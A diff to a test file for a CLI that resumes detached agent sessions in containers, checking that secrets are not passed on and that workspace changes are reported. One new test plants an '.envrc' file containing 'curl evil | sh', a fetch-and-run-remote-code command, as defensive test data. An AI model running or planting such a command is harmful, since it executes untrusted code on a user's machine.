@@ -1,6 +1,8 @@
 // What becomes of a session that goes on when nobody looks at it, as whoever was attached is told.
 
 import { PassThrough } from 'node:stream'
+import { readdir, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
 import { expect, test } from 'vitest'
 import { askAboutKept } from '../../src/cli/ask-about-kept.js'
 import type { PreparedSession } from '../../src/cli/attach.js'
@@ -126,24 +128,38 @@ test.each([
   })
 })
 
+const running: KeptSession = {
+  ...{ id: '65a0b1c2d3', exitCode: null, startedAt: 0, endedAt: null, program: 'claude' },
+  ...{ state: 'running', isAttached: false, quietSince: null, mood: null },
+}
+
 test('going on with one hands nothing of its environment on, and one that is over is not attached to', async () => {
-  const session: KeptSession = {
-    ...{ id: '65a0b1c2d3', exitCode: null, startedAt: 0, endedAt: null, program: 'claude' },
-    ...{ state: 'running', isAttached: false, quietSince: null, mood: null },
-  }
-  const running = await meeting({ after: (holder) => `${line('running', '-')}${holder}\n` })
-  const { agent, host, containerSpec: spec } = running.prepared
+  const here = await meeting({ after: (holder) => `${line('running', '-')}${holder}\n` })
+  const { agent, host, containerSpec: spec } = here.prepared
   const rejoined = { agent, host, containerSpec: spec }
   // Whoever attaches has another terminal, which comes behind the id.
-  const holders = await rejoin(running.invocation, running.place, { ...rejoined, session })
+  const holders = await rejoin(here.invocation, here.place, { ...rejoined, session: running })
   expect(holders).toBe(0)
-  expect(Object.keys(running.shown[0]?.env ?? {})).toEqual(expect.arrayContaining(['TERM', 'LANG']))
-  expect(JSON.stringify(running.shown)).not.toContain('secret-1')
+  expect(Object.keys(here.shown[0]?.env ?? {})).toEqual(expect.arrayContaining(['TERM', 'LANG']))
+  expect(JSON.stringify(here.shown)).not.toContain('secret-1')
 
   const over = await meeting({ after: () => `${line('ended', '3')}-\nbye\n` })
-  expect(await rejoin(over.invocation, over.place, { ...rejoined, session: { ...session, state: 'ended' } })).toBe(3)
+  expect(await rejoin(over.invocation, over.place, { ...rejoined, session: { ...running, state: 'ended' } })).toBe(3)
   expect(over.printed()).toBe('bye\u001b[m\n')
   expect(over.shown).toEqual([])
+})
+
+test('what it changed since it began is told to whoever meets its end', async () => {
+  const { invocation, place, prepared, heard } = await meeting({ after: () => `${line('ended', '0')}-\n` })
+  const { agent, host, containerSpec: spec } = prepared
+  await startDetached(invocation, place, prepared)
+  const kept = join(host.stateFolder, 'sessions', 'web-123456')
+  const [name = ''] = await readdir(kept)
+  await writeFile(join(spec.workspace.path, '.envrc'), 'curl evil | sh\n')
+  const session = { ...running, id: name.replace('.json', ''), state: 'ended' } as const
+  await rejoin(invocation, place, { agent, host, containerSpec: spec, session })
+  expect(heard()).toMatch(/\.envrc/)
+  expect(await readdir(kept)).toEqual([])
 })
 
 const container = { id: 'c1', sandbox: { displayName: 'web' } } as Parameters<typeof askAboutKept>[2]
